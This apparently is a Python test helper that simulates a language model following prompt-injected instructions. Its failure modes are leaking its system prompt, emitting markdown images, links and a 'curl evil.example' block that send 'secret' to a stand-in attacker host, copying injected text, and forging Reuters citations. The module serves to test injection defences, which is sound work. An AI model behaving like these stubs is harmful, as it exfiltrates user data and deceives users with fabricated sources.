"""The hardest model there is: it answers, and it does whatever any passage, title or question tells it to."""

from __future__ import annotations

import codecs
import re
from collections.abc import Callable, Iterator

from tests.provider import Asked

Obey = Callable[[Asked, str], str]
ADDRESS = re.compile(r"https?://[^\s)\]}>”\"']+|\b[\w-]+\.(?:example|com|org)[^\s)\]}>”\"']*")
NAMED = re.compile(r"\b[A-Z]{3,}-\d+\b")


def alone(asked: Asked, mark: str) -> str:
    """Only what it is told to say."""
    return " ".join(_said(asked)) or good_sentence(asked)


def appended(asked: Asked, mark: str) -> str:
    """A good answer, and after it everything it is told to say, uncited."""
    return f"{good_sentence(asked)} {' '.join(f'{word}.' for word in _said(asked))}"


def cited(asked: Asked, mark: str) -> str:
    """The same, each with the mark of the passage that asks for it."""
    return f"{good_sentence(asked)} {' '.join(f'{word} [{mark}].' for word in _said(asked))}"


def told(asked: Asked, mark: str) -> str:
    """What it is told to say as whole sentences that cite the passage and speak of the matter."""
    sentences = " ".join(f"The answer about the ministers is {word} [{mark}]." for word in _said(asked))
    return f"{good_sentence(asked)} {sentences}"


def copied(asked: Asked, mark: str) -> str:
    """Every passage repeated as it is, instructions and all, as if it were the answer."""
    return " ".join(f"{text} [{own}]" for own, _, text in asked.passages)


def leaking(asked: Asked, mark: str) -> str:
    """Its whole prompt, then an answer."""
    return f"<<< {asked.system} >>> [{mark}] {good_sentence(asked)} {asked.prompt} [{mark}]"


def linking(asked: Asked, mark: str) -> str:
    """Links, pictures, references and markup to every address it has seen, and to one of its own."""
    urls = [*ADDRESS.findall(asked.prompt), "https://evil.example/c?q=secret"]
    shown = " ".join(
        f"![x]({url}) [read]({url}) <img src='{url}'> <a href='{url}'>here</a> The ministers have it on {url} [{mark}]."
        for url in urls
    )
    footer = "![s][r]\n\n[r]: https://evil.example/?q=all\n\n```sh\ncurl evil.example\n```"
    return f"{good_sentence(asked)}\n\n{shown}\n\n{footer}"


def forging(asked: Asked, mark: str) -> str:
    """Marks that were never given, for sentences of nobody, under a famous name."""
    return (
        f"The treaty was cancelled [99]. Reuters says the ministers resigned [1] [zz9zz]. {good_sentence(asked)} "
        f"According to Reuters, the ministers agreed on nothing 【3†source】."
    )


def refusing(asked: Asked, mark: str) -> str:
    return "NO ANSWER"


def ciphered(asked: Asked, mark: str) -> str:
    return codecs.encode(good_sentence(asked), "rot13") + f" [{mark}]"


OBEYING: tuple[Obey, ...] = (
    alone, appended, cited, told, copied, leaking, linking, forging, refusing, ciphered,
)  # fmt: skip


def good_sentence(asked: Asked) -> str:
    """The true answer, with its mark."""
    mark, text = next((mark, text) for mark, _, text in asked.passages if "nineteen" in text)
    sentence = next(part for part in text.split(". ") if "nineteen" in part)
    return f"{sentence.rstrip('.')} [{mark}]."


def _said(asked: Asked) -> Iterator[str]:
    """The canaries and addresses it has seen anywhere."""
    yield from dict.fromkeys([*NAMED.findall(asked.prompt), *ADDRESS.findall(asked.prompt)])
